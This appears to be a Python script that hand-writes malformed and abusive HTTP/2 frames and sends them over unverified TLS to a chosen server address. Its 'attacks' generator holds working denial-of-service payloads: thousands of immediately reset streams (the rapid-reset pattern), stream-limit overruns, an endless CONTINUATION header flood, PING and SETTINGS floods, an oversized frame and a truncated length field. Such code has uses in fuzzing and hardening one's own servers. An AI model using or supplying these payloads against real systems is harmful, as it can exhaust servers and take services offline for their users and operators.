"""HTTP/2 as no client speaks it: frames written by hand (RFC 9113)."""

import contextlib
import os
import socket
import ssl
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
# GET / of https, from HPACK's static table, and a name for the host.
REQUEST = bytes([0x82, 0x84, 0x87, 0x41, 0x01]) + b"x"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def streams(count):
    return (2 * number + 1 for number in range(count))


def attacks():
    start = PREFACE + frame(SETTINGS)
    whole = END_STREAM | END_HEADERS
    yield "no preface", os.urandom(4_096)
    yield "a preface and garbage", PREFACE + os.urandom(4_096)
    yield "streams that are reset at once", start + b"".join(
        frame(HEADERS, whole, stream, REQUEST) + frame(RESET, 0, stream, b"\0\0\0\x08") for stream in streams(5_000))
    yield "more streams than there may be", start + b"".join(
        frame(HEADERS, END_HEADERS, stream, REQUEST) for stream in streams(2_000))
    yield "a head that never ends", start + frame(HEADERS, 0, 1, REQUEST) + b"".join(
        frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7e" + b"b" * 255) for _ in range(5_000))
    yield "pings", start + frame(PING, 0, 0, bytes(8)) * 20_000
    yield "settings", start + frame(SETTINGS) * 20_000
    yield "a frame that is too large", start + frame(DATA, 0, 1, bytes(200_000))
    yield "a length that does not come", start + struct.pack(">I", 16_000)[1:] + bytes([HEADERS, whole]) + b"\0\0\0\1x"


def send(address, data, wait=1):
    """Agrees on HTTP/2 over TLS, sends, and reads what comes for a while. Returns how much."""
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(["h2"])
    count = 0
    with contextlib.suppress(OSError), socket.create_connection(address, timeout=wait) as line:
        with context.wrap_socket(line) as secure:
            secure.settimeout(wait)
            secure.sendall(data)
            while part := secure.recv(65_536):
                count += len(part)
    return count
